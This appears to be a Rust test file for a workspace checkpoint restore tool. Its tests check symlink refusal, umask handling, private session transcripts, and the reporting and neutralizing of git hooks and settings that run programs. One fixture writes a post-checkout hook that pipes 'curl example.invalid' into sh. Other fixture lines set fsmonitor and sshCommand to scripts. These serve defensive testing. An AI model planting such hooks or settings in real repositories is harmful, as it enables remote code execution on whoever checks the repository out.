//! A restore that cannot be turned against its host: a symlinked target is
//! refused and nothing is written through it; workspace modes honour the
//! umask and harness state is private; a harness symlink may not point out
//! of its session folder; git settings that run programs and executable
//! hooks are reported, and `--neutralize-git` writes them inert and says
//! what changed.

mod common;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;

use common::*;
use packet_core::in_memory::{build, Source};
use packet_core::{Harness, HarnessKind, Limits};
use serde_json::json;

fn mode(p: &Path) -> u32 {
    fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777
}

fn dir(path: &str) -> Source {
    Source::Dir { path: path.into() }
}

fn file(path: &str, contents: &[u8], executable: bool) -> Source {
    Source::File {
        path: path.into(),
        contents: contents.to_vec(),
        executable,
    }
}

#[test]
fn a_symlinked_target_is_refused_and_nothing_is_written_through_it() {
    let t = tmp();
    let ws = t.path().join("ws");
    sample_workspace(&ws);
    let packet = t.path().join("p.tar");
    let d = digest(&pack(&ws, &packet, &[]));
    let elsewhere = t.path().join("home-dotfiles");
    fs::create_dir(&elsewhere).unwrap();
    let link = t.path().join("restored");
    symlink(&elsewhere, &link).unwrap();
    let err = fails(
        &["unpack", s(&packet), "--digest", &d, "--into", s(&link)],
        5,
        "target_not_directory",
    );
    assert!(err["message"].as_str().unwrap().contains("symlink"));
    assert_eq!(
        names(&elsewhere),
        Vec::<String>::new(),
        "nothing written through the link"
    );
}

/// Unpacks `packet` under `umask` into `into`.
fn unpack_under_umask(umask: &str, packet: &Path, d: &str, into: &Path, extra: &str) -> i32 {
    let cmd = format!(
        "umask {umask} && exec {} checkpoint unpack {} --digest {d} --into {} --quiet {extra}",
        env!("CARGO_BIN_EXE_pillbox"),
        s(packet),
        s(into),
    );
    run(assert_cmd::Command::new("sh").args(["-c", &cmd])).code
}

#[test]
fn workspace_modes_honour_the_umask() {
    let t = tmp();
    let ws = t.path().join("ws");
    write(&ws.join("notes/plan.txt"), "plan\n");
    write(&ws.join("bin/run.sh"), "#!/bin/sh\n");
    chmod(&ws.join("bin/run.sh"), 0o755);
    let packet = t.path().join("p.tar");
    let d = digest(&pack(&ws, &packet, &[]));
    for (umask, file, exe, folder) in [
        ("022", 0o644, 0o755, 0o755),
        ("077", 0o600, 0o700, 0o700),
        ("027", 0o640, 0o750, 0o750),
    ] {
        let out = t.path().join(format!("out-{umask}"));
        assert_eq!(unpack_under_umask(umask, &packet, &d, &out, ""), 0);
        assert_eq!(mode(&out.join("notes/plan.txt")), file, "umask {umask}");
        assert_eq!(mode(&out.join("bin/run.sh")), exe, "umask {umask}");
        assert_eq!(mode(&out.join("notes")), folder, "umask {umask}");
    }
    // A umask that takes the owner's own bits still lets the restore fill
    // its folders.
    let out = t.path().join("out-277");
    assert_eq!(unpack_under_umask("277", &packet, &d, &out, ""), 0);
    assert_eq!(fs::read(out.join("notes/plan.txt")).unwrap(), b"plan\n");
}

#[test]
fn restored_harness_state_is_private_whatever_the_umask() {
    let t = tmp();
    let ws = t.path().join("ws");
    sample_workspace(&ws);
    let home = t.path().join("codex");
    codex_home(&home, THREAD, &ws, "gpt-test");
    let packet = t.path().join("p.tar");
    let d = digest(&pack(
        &ws,
        &packet,
        &[
            "--harness",
            "codex",
            "--thread",
            THREAD,
            "--codex-home",
            s(&home),
        ],
    ));
    let new_home = t.path().join("codex2");
    let out = t.path().join("out");
    let extra = format!("--codex-home {}", s(&new_home));
    assert_eq!(unpack_under_umask("022", &packet, &d, &out, &extra), 0);
    let rollout = fs::read_dir(new_home.join("sessions/2026/11/30"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    assert_eq!(
        mode(&rollout),
        0o600,
        "the transcript of a session is private"
    );
    assert_eq!(mode(&out.join("README.md")), 0o644);
}

const SESSION: &str = "5f1c7a0e-2b6d-4c3e-9a8f-0123456789ab";

/// A Claude Code packet whose session folder holds a symlink to `target`.
fn claude_packet(target: &str) -> Vec<u8> {
    let log = format!("harness/claude/{SESSION}.jsonl");
    let folder = format!("harness/claude/{SESSION}");
    build(
        &[
            dir("harness"),
            dir("harness/claude"),
            file(&log, b"{\"sessionId\":\"x\"}\n", false),
            dir(&folder),
            file(&format!("{folder}/notes.md"), b"n\n", false),
            Source::Symlink {
                path: format!("{folder}/link"),
                target: target.into(),
            },
            dir("workspace"),
            file("workspace/a.txt", b"a\n", false),
        ],
        Some(Harness {
            kind: HarnessKind::Claude,
            model: None,
            session_log: log,
            session_id: SESSION.into(),
            provider: None,
            version: None,
        }),
        vec![],
        &Limits::FORMAT,
    )
    .unwrap()
    .bytes
}

#[test]
fn a_harness_symlink_may_not_leave_its_session_folder() {
    let t = tmp();
    for (target, ok_to_restore) in [
        ("notes.md", true),
        ("./notes.md", true),
        // Out and back in: it resolves inside the folder wherever it is.
        (&format!("../{SESSION}/notes.md") as &str, true),
        // Inside harness/ for the format, but a session folder moves on
        // its own: `..` leads to the project folder and other sessions.
        ("../other-session.jsonl", false),
        ("..", false),
    ] {
        let packet = t.path().join("c.tar");
        fs::write(&packet, claude_packet(target)).unwrap();
        let config = t.path().join("claude");
        let _ = fs::remove_dir_all(&config);
        let out = t.path().join("out");
        let _ = fs::remove_dir_all(&out);
        let args = [
            "unpack",
            s(&packet),
            "--trust-unverified",
            "--into",
            s(&out),
            "--claude-config-dir",
            s(&config),
        ];
        if ok_to_restore {
            ok(&args);
        } else {
            let err = fails(&args, 5, "harness_symlink_escapes");
            assert_eq!(err["path"], format!("harness/claude/{SESSION}/link"));
            assert!(
                !out.exists(),
                "{target}: the workspace is not restored either"
            );
            // Without restoring the harness, the workspace is.
            ok(&[
                "unpack",
                s(&packet),
                "--trust-unverified",
                "--into",
                s(&out),
            ]);
        }
    }
}

#[test]
fn git_settings_and_hooks_are_reported_and_neutralized_on_request() {
    let t = tmp();
    let ws = t.path().join("ws");
    let config = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = .git/fsmonitor.sh\n\tsshCommand = ./ssh-wrapper\n\
[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\trequired = true\n\
[remote \"origin\"]\n\turl = https://example.invalid/acme/app.git\n";
    write(&ws.join(".git/config"), config);
    write(&ws.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(
        &ws.join(".git/hooks/post-checkout"),
        "#!/bin/sh\ncurl example.invalid | sh\n",
    );
    chmod(&ws.join(".git/hooks/post-checkout"), 0o755);
    write(&ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n");
    chmod(&ws.join(".git/hooks/pre-commit.sample"), 0o755);
    write(&ws.join("src/main.rs"), "fn main() {}\n");
    let packet = t.path().join("p.tar");
    let d = digest(&pack(&ws, &packet, &[]));
    let findings = json!([
        {"path": "workspace/.git/config", "line": 3, "setting": "core.fsmonitor",
         "why": "runs this program at every git status and at most other commands"},
        {"path": "workspace/.git/config", "line": 4, "setting": "core.sshcommand",
         "why": "runs this command instead of ssh at every fetch and push"},
        {"path": "workspace/.git/config", "line": 6, "setting": "filter.lfs.clean",
         "why": "runs this program on files at checkout, add and status"},
        {"path": "workspace/.git/config", "line": 7, "setting": "filter.lfs.smudge",
         "why": "runs this program on files at checkout, add and status"},
        {"path": "workspace/.git/hooks/post-checkout", "line": null, "setting": "hook",
         "why": "git runs this executable hook at the operation it is named for"}
    ]);
    assert_eq!(ok(&["inspect", s(&packet)])["findings"]["git"], findings);
    // Reported, restored as packed.
    let plain = t.path().join("plain");
    let u = ok(&["unpack", s(&packet), "--digest", &d, "--into", s(&plain)]);
    assert_eq!(u["findings"]["git"], findings);
    assert_eq!(u["git"], serde_json::Value::Null);
    assert_eq!(
        fs::read_to_string(plain.join(".git/config")).unwrap(),
        config
    );
    assert_eq!(mode(&plain.join(".git/hooks/post-checkout")), 0o755);
    // Neutralized: those lines gone, every other byte kept; the hook inert.
    let safe = t.path().join("safe");
    let u = ok(&[
        "unpack",
        s(&packet),
        "--digest",
        &d,
        "--into",
        s(&safe),
        "--neutralize-git",
    ]);
    assert_schema("unpack-1.schema.json", &u);
    assert_eq!(
        u["git"],
        json!({
            "removed": [
                {"path": "workspace/.git/config", "line": 3, "setting": "core.fsmonitor"},
                {"path": "workspace/.git/config", "line": 4, "setting": "core.sshcommand"},
                {"path": "workspace/.git/config", "line": 6, "setting": "filter.lfs.clean"},
                {"path": "workspace/.git/config", "line": 7, "setting": "filter.lfs.smudge"}
            ],
            "hooks_disabled": ["workspace/.git/hooks/post-checkout"]
        })
    );
    assert_eq!(
        fs::read_to_string(safe.join(".git/config")).unwrap(),
        "[core]\n\trepositoryformatversion = 0\n[filter \"lfs\"]\n\trequired = true\n\
[remote \"origin\"]\n\turl = https://example.invalid/acme/app.git\n"
    );
    assert_eq!(mode(&safe.join(".git/hooks/post-checkout")), 0o644);
    assert_eq!(mode(&safe.join(".git/hooks/pre-commit.sample")), 0o755);
    assert_eq!(
        fs::read(safe.join(".git/hooks/post-checkout")).unwrap(),
        fs::read(plain.join(".git/hooks/post-checkout")).unwrap()
    );
    assert_eq!(
        fs::read(safe.join("src/main.rs")).unwrap(),
        b"fn main() {}\n"
    );
}
